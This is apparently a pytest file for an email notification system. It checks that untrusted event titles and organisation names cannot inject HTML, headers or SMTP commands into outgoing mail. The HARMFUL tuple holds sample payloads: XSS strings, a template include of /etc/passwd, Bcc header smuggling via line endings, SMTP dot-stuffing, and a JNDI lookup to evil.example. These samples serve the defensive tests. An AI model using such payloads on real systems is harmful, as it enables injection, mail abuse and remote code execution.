"""Harm by what comes from outside, the whole way: from event and organisation file to the mail that a server takes."""

from __future__ import annotations

from html.parser import HTMLParser
from typing import Any

import pytest
import yaml

from duban.flow.lease import Lease
from duban.flow.parts import Parts
from duban.flow.policy import active_files, apply_policy
from duban.flow.send import send_queued
from duban.model import Channel
from duban.playbook.faults import Faults
from duban.playbook.organisation import parse_organisation
from events.refusal import Refusal
from tests.integration.smtp_servers import sending
from tests.senders import ScriptedSender
from tests.simulators.smtp_behind import Sink, Taken
from tests.simulators.smtp_faults import faulty
from tests.world import PACKAGED, ask, directive, hear, record

HARMFUL = (
    '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', "{{ 7 * 7 }}{% include '/etc/passwd' %}",
    "Bcc: evil@b.example", "=?utf-8?q?=0D=0ABcc:_evil@b.example?=", "x</title></head><form action=//evil.example>",
    ".\\r\\n.\\r\\nMAIL FROM:<evil@b.example>", "${jndi:ldap://evil.example/a}", "\ue000\ue001", "%(title)s{0}",
    "=3D=0D=0A",
)  # fmt: skip
LINE_ENDS = ("\r\n", "\n", "\r", "\0", "\x0b", "\x85", "\u2028", "\u2029", "\x1b[2J")


class Tags(HTMLParser):
    """The names of all tags of a page, in order."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.seen: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append(tag)


def said(number: int, words: str) -> dict[str, Any]:
    event = directive(number)
    event["data"] |= {"title": words, "points": [words], "document": words}
    return event


def page(mail: Taken) -> list[str]:
    """The tags of its HTML."""
    part = mail.mail.get_body(("html",))
    assert part is not None
    return Tags(part.get_content()).seen


async def test_what_an_event_says_is_words_in_the_mail_and_nothing_else(parts: Parts, lease: Lease) -> None:
    taken: list[Taken] = []
    await hear(parts, *(said(number, words) for number, words in enumerate(("督办", *HARMFUL))))
    async with faulty(lambda: Sink(taken)) as server, sending(server.port) as sender:
        await send_queued(parts, lease, Channel.email, sender)
    to_sign = [mail for mail in taken if mail.mail["Subject"].startswith("请签收：")]
    assert len(to_sign) == 1 + len(HARMFUL)
    assert {tuple(mail.mail.keys()) for mail in to_sign} == {tuple(to_sign[0].mail.keys())}
    assert {mail.recipients for mail in to_sign} == {("zhuyao@health.talent.example",)}
    assert {tuple(page(mail)) for mail in to_sign} == {tuple(page(to_sign[0]))}
    subjects = [mail.mail["Subject"].removeprefix("请签收：").partition("（")[0] for mail in to_sign]
    assert sorted(subjects) == sorted(("督办", *HARMFUL))


def test_an_event_with_what_might_end_a_line_is_refused() -> None:
    for end in LINE_ENDS:
        with pytest.raises(Refusal) as refused:
            record(said(1, f"传达{end}Bcc: evil@b.example"))
        assert "data.title" in str(refused.value), repr(end)


@pytest.mark.parametrize("field", ["name", "email"])
def test_a_name_or_an_address_with_what_might_end_a_line_is_no_organisation(field: str) -> None:
    sheet = yaml.safe_load((PACKAGED / "organisation" / "organisation.yaml").read_text(encoding="utf-8"))
    for person, end in zip(sheet["people"], LINE_ENDS, strict=False):
        person[field] = f"z{end}Bcc: evil@b.example"
    # With every such character escaped: YAML itself makes a blank of some that stand bare.
    with pytest.raises(Faults) as refused:
        parse_organisation(yaml.safe_dump(sheet), "organisation.yaml")
    assert {item.field for item in refused.value.items} == {
        f"people.{number}.{field}" for number in range(len(LINE_ENDS))
    }


async def test_a_template_that_never_ends_fails_alone(parts: Parts, lease: Lease) -> None:
    files, path = await active_files(parts), "templates/layout.txt"
    endless = "{% macro m() %}{{ m() }}{% endmacro %}{% if points|length == 7 %}{{ m() }}{% endif %}"
    await apply_policy(parts, {**files, path: files[path] + endless})
    seven = directive(7)
    seven["data"]["points"] = [f"第{n}点" for n in range(7)]
    await hear(parts, directive(1), seven, directive(2))
    sender = ScriptedSender()
    await send_queued(parts, lease, Channel.email, sender)
    # Of each directive a mail about its report and one to the principal.
    assert len(sender.sent) == 4
    rows = await ask(parts, "SELECT reason FROM notice WHERE state = 'failed'")
    assert [row["reason"] for row in rows] == ["template broken"] * 2
